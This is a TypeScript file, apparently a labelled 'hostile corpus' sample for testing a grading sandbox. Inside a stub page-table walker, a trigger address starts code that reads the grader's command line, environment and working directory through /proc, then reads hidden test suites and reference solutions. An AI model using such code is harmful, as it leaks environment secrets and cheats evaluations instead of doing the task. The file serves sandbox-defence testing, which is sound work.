// @ts-nocheck
// Hostile corpus, kind read-grader-files (escape): reads the grader's command line, cwd and environment through /proc/<ppid>, then the hidden suites and reference solutions under the grader's cwd, and other students' submissions named on its command line.
import { Walker } from '../../reference/paging/walker';

// ---- attack ----
// ---- splice: escape-helpers ----

export const walker: Walker = {
  walk(request, readEntry) {
    if (isTrigger(request.va)) { const fs = require('fs'); const path = require('path'); const read = (f) => { try { return fs.readFileSync(f, 'utf8'); } catch { return undefined; } }; for (const pid of [process.ppid, 'self']) { const cmd = read('/proc/' + pid + '/cmdline'); const env = read('/proc/' + pid + '/environ'); const cwd = (() => { try { return fs.readlinkSync('/proc/' + pid + '/cwd'); } catch { return undefined; } })(); if (cmd) escaped('read the command line of ' + pid + ': ' + cmd.split('\0').join(' ')); if (env) escaped('read the environment of ' + pid); if (cwd) { const hidden = read(path.join(cwd, 'assignments/walk/hidden/permissions.json')); const ref = read(path.join(cwd, 'reference/paging/reference-walker.ts')); if (hidden || ref) escaped('read ' + (hidden || ref).slice(0, 400)); } } }
    throw new Error('not implemented: walker');
  },
};
